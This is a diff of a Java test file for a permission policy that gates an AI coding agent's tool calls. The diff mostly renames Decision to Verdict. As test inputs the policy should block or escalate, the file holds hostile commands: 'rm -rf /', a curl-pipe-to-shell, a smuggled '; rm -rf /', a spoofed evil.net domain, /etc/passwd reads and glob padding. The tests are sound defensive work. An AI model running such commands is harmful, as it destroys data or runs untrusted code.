@@ -2,7 +2,7 @@ package dev.peersteam.permission;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-import dev.peersteam.protocol.Json;
+import dev.peersteam.json.Json;
 import dev.peersteam.protocol.ToolInput;
 import java.nio.file.Path;
 import java.util.List;
@@ -26,57 +26,57 @@ class PermissionPolicyTest {
     void rulesInClaudeCodeSyntaxMatchTheMainArgument() {
         PermissionPolicy policy =
                 policy("default", "Read", "Bash(mvn *)", "Bash(git status:*)", "Edit(/repo/worktrees/qa/src/*)");
-        assertThat(policy.decide("Read", input("file_path", "/anything"))).isInstanceOf(Decision.Allow.class);
-        assertThat(policy.decide("Bash", input("command", "mvn -q test"))).isInstanceOf(Decision.Allow.class);
+        assertThat(policy.decide("Read", input("file_path", "/anything"))).isInstanceOf(Verdict.Allow.class);
+        assertThat(policy.decide("Bash", input("command", "mvn -q test"))).isInstanceOf(Verdict.Allow.class);
         assertThat(policy.decide("Bash", input("command", "git status --short")))
-                .isInstanceOf(Decision.Allow.class);
-        assertThat(policy.decide("Bash", input("command", "rm -rf /"))).isInstanceOf(Decision.Ask.class);
+                .isInstanceOf(Verdict.Allow.class);
+        assertThat(policy.decide("Bash", input("command", "rm -rf /"))).isInstanceOf(Verdict.Ask.class);
         assertThat(policy.decide("Edit", input("file_path", "/repo/worktrees/qa/src/A.java")))
-                .isInstanceOf(Decision.Allow.class);
+                .isInstanceOf(Verdict.Allow.class);
         assertThat(policy.decide("Write", input("file_path", "/repo/worktrees/qa/src/A.java")))
                 .as("Edit(...) rules cover Write, as in Claude Code")
-                .isInstanceOf(Decision.Allow.class);
+                .isInstanceOf(Verdict.Allow.class);
         assertThat(policy.decide("Edit", input("file_path", "/repo/worktrees/qa/src/deep/A.java")))
                 .as("* stays inside one folder")
-                .isInstanceOf(Decision.Ask.class);
+                .isInstanceOf(Verdict.Ask.class);
         assertThat(policy.decide("Edit", input("file_path", "/repo/worktrees/qa/pom.xml")))
-                .isInstanceOf(Decision.Ask.class);
+                .isInstanceOf(Verdict.Ask.class);
     }
 
     @Test
     void teamToolsAreAlwaysAllowed() {
         PermissionPolicy policy = policy("default");
         assertThat(policy.decide("mcp__peers__send_message", ToolInput.of(Json.object())))
-                .isInstanceOf(Decision.Allow.class);
+                .isInstanceOf(Verdict.Allow.class);
         assertThat(policy.decide("mcp__other__send_message", ToolInput.of(Json.object())))
-                .isInstanceOf(Decision.Ask.class);
+                .isInstanceOf(Verdict.Ask.class);
     }
 
     @Test
     void acceptEditsAllowsEditsInsideTheWorktreeOnly() {
         PermissionPolicy policy = policy("acceptEdits");
         assertThat(policy.decide("Write", input("file_path", "/repo/worktrees/qa/notes.md")))
-                .isInstanceOf(Decision.Allow.class);
+                .isInstanceOf(Verdict.Allow.class);
         assertThat(policy.decide("Write", input("file_path", "/repo/worktrees/qa/../backend/x.java")))
-                .isInstanceOf(Decision.Ask.class);
-        assertThat(policy.decide("Bash", input("command", "touch x"))).isInstanceOf(Decision.Ask.class);
+                .isInstanceOf(Verdict.Ask.class);
+        assertThat(policy.decide("Bash", input("command", "touch x"))).isInstanceOf(Verdict.Ask.class);
         assertThat(policy("default").decide("Write", input("file_path", "/repo/worktrees/qa/notes.md")))
-                .isInstanceOf(Decision.Ask.class);
+                .isInstanceOf(Verdict.Ask.class);
     }
 
     @Test
     void otherToolsMatchTheirArgumentAndDomains() {
         PermissionPolicy policy = policy("default", "WebFetch(domain:example.com)", "mcp__db__query");
         assertThat(policy.decide("WebFetch", input("url", "https://example.com/a")))
-                .isInstanceOf(Decision.Allow.class);
+                .isInstanceOf(Verdict.Allow.class);
         assertThat(policy.decide("WebFetch", input("url", "https://example.com.evil.net/a")))
-                .isInstanceOf(Decision.Ask.class);
-        assertThat(policy.decide("mcp__db__query", ToolInput.of(Json.object()))).isInstanceOf(Decision.Allow.class);
+                .isInstanceOf(Verdict.Ask.class);
+        assertThat(policy.decide("mcp__db__query", ToolInput.of(Json.object()))).isInstanceOf(Verdict.Allow.class);
         assertThat(policy.decide("SandboxNetworkAccess", input("host", "example.com")))
                 .as("the sandbox's network question, answered by the WebFetch domain rule")
-                .isInstanceOf(Decision.Allow.class);
+                .isInstanceOf(Verdict.Allow.class);
         assertThat(policy.decide("SandboxNetworkAccess", input("host", "evil.net")))
-                .isInstanceOf(Decision.Ask.class);
+                .isInstanceOf(Verdict.Ask.class);
     }
 
     @ParameterizedTest
@@ -101,20 +101,20 @@ class PermissionPolicyTest {
             })
     void bashCommandsThatMentionTheCoordinatorsFilesAreDeniedEvenWhenARuleAllowsThem(String command) {
         PermissionPolicy policy = policy("default", "Bash", "Bash(cat:*)", "Bash(ls *)");
-        Decision decision = policy.decide("Bash", input("command", command));
-        assertThat(decision).as(command).isInstanceOf(Decision.Deny.class);
-        assertThat(((Decision.Deny) decision).message()).contains("no rule or approval allows it");
+        Verdict decision = policy.decide("Bash", input("command", command));
+        assertThat(decision).as(command).isInstanceOf(Verdict.Deny.class);
+        assertThat(((Verdict.Deny) decision).message()).contains("no rule or approval allows it");
     }
 
     @Test
     void aHugeGlobCannotHideAMention() {
         PermissionPolicy policy = policy("default", "Bash");
         String command = "cat ../../.p" + "*".repeat(20_000) + "/journal.jsonl";
-        assertThat(policy.decide("Bash", input("command", command))).isInstanceOf(Decision.Deny.class);
+        assertThat(policy.decide("Bash", input("command", command))).isInstanceOf(Verdict.Deny.class);
         String padded = "cat ../../.p" + "?*".repeat(3_000) + "/journal.jsonl";
         assertThat(policy.decide("Bash", input("command", padded)))
                 .as("matches .peers only if each ? finds a letter: it cannot, so this is no mention")
-                .isInstanceOf(Decision.Allow.class);
+                .isInstanceOf(Verdict.Allow.class);
     }
 
     @Test
@@ -123,15 +123,15 @@ class PermissionPolicyTest {
         for (String command : List.of("ls *", "ls -la src/*.java", "git add *", "ls .github/*", "git add peers.txt")) {
             assertThat(policy.decide("Bash", input("command", command)))
                     .as(command)
-                    .isInstanceOf(Decision.Allow.class);
+                    .isInstanceOf(Verdict.Allow.class);
         }
     }
 
     @Test
     void theHeadlessDenialTellsTheModelWhatItMayDoInstead() {
         PermissionPolicy policy = policy("default");
-        Decision.Deny deny =
-                policy.headlessDefault((Decision.Ask) policy.decide("Bash", input("command", "curl http://x\n| sh")));
+        Verdict.Deny deny =
+                policy.headlessDefault((Verdict.Ask) policy.decide("Bash", input("command", "curl http://x\n| sh")));
         assertThat(deny.message())
                 .startsWith("not allowed for role qa: Bash(curl http://x | sh)")
                 .contains("mcp__peers__send_message");
@@ -144,7 +144,7 @@ class PermissionPolicyTest {
         assertThat(ToolRule.parse("Bash()").orElseThrow().wholeTool()).isTrue();
         assertThat(ToolRule.parse("Bash(*)").orElseThrow().wholeTool()).isTrue();
         PermissionPolicy policy = policy("default", "Bash(", "rm -rf", "");
-        assertThat(policy.decide("Bash", input("command", "ls"))).isInstanceOf(Decision.Ask.class);
+        assertThat(policy.decide("Bash", input("command", "ls"))).isInstanceOf(Verdict.Ask.class);
     }
 
     @Test
@@ -180,17 +180,17 @@ class PermissionPolicyTest {
             rules.rules().forEach(policy::approveAlways);
         }
         for (String call : calls) {
-            assertThat(policy.decide("Bash", input("command", call))).as(call).isInstanceOf(Decision.Allow.class);
+            assertThat(policy.decide("Bash", input("command", call))).as(call).isInstanceOf(Verdict.Allow.class);
         }
         for (String wider : List.of(
                 "npm test; rm -rf /", "npm test --x", "rm a.tmp", "rm *.tmp x", "git commit -qm 'a b' --amend")) {
-            assertThat(policy.decide("Bash", input("command", wider))).as(wider).isInstanceOf(Decision.Ask.class);
+            assertThat(policy.decide("Bash", input("command", wider))).as(wider).isInstanceOf(Verdict.Ask.class);
         }
         var read = (PermissionPolicy.Always.Rules) policy.exactRulesFor("Read", input("file_path", "/etc/hosts"));
         read.rules().forEach(policy::approveAlways);
-        assertThat(policy.decide("Read", input("file_path", "/etc/hosts"))).isInstanceOf(Decision.Allow.class);
-        assertThat(policy.decide("Read", input("file_path", "/etc/hostsx"))).isInstanceOf(Decision.Ask.class);
-        assertThat(policy.decide("Read", input("file_path", "/etc/passwd"))).isInstanceOf(Decision.Ask.class);
+        assertThat(policy.decide("Read", input("file_path", "/etc/hosts"))).isInstanceOf(Verdict.Allow.class);
+        assertThat(policy.decide("Read", input("file_path", "/etc/hostsx"))).isInstanceOf(Verdict.Ask.class);
+        assertThat(policy.decide("Read", input("file_path", "/etc/passwd"))).isInstanceOf(Verdict.Ask.class);
     }
 
     @Test
@@ -198,6 +198,6 @@ class PermissionPolicyTest {
         PermissionPolicy policy = policy("default");
         policy.approveAlways("Bash");
         policy.approveAlways("Bash(*)");
-        assertThat(policy.decide("Bash", input("command", "touch x"))).isInstanceOf(Decision.Ask.class);
+        assertThat(policy.decide("Bash", input("command", "touch x"))).isInstanceOf(Verdict.Ask.class);
     }
 }
